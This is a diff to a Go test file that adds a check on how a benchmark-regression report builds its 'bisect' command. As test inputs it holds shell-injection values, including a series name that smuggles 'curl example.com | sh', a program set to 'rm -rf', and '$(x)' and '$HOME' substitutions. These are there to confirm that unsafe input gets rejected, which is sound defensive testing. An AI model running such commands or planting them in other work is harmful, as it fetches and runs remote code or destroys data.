@@ -89,6 +89,28 @@ func TestBodyCauses(t *testing.T) {
 	}
 }
 
+// A regression ends with the command that finds its commit, unless the report has words in it
+// that a shell might read.
+func TestBodyBisect(t *testing.T) {
+	r := failed("A-2")
+	const good, bad = "0123456789abcdef", "fedcba9876543210"
+	for _, c := range []struct{ series, good, bad, flag, want string }{
+		{"example.com/m/p.A/size=1-2 sec/op", good, bad, "50ms", "sakusen-bench bisect 'example.com/m/p.A/size=1-2 sec/op' 0123456789abcdef..fedcba9876543210 --benchtime 50ms"},
+		{"example.com/m/p.A-2 sec/op", good, bad, "$(x)", "sakusen-bench bisect 'example.com/m/p.A-2 sec/op' 0123456789abcdef..fedcba9876543210"},
+		{"A'; curl example.com | sh; '", good, bad, "1x", ""},
+		{"A\n```", good, bad, "1x", ""},
+		{"-C /", good, bad, "1x", ""},
+		{"A", "--prepare=x", bad, "1x", ""},
+		{"A", good, "$HOME", "1x", ""},
+	} {
+		r.Bisect = &bench.Bisect{Program: "rm -rf", Series: c.series, Good: c.good, Bad: c.bad, Flags: []string{"--benchtime", c.flag, "--prepare", "x"}}
+		got := comment.Body(r, comment.Options{})
+		if want := "\nWhich commit:\n\n```sh\n" + c.want + "\n```\n"; c.want != "" && !strings.HasSuffix(got, want) || c.want == "" && strings.Contains(got, "Which commit") {
+			t.Errorf("%+v:\n%s", c, got)
+		}
+	}
+}
+
 // What a report says was measured in foreign code.
 func TestBodyHostile(t *testing.T) {
 	r := failed("A`|@team <img src=x>\n\n# hello")
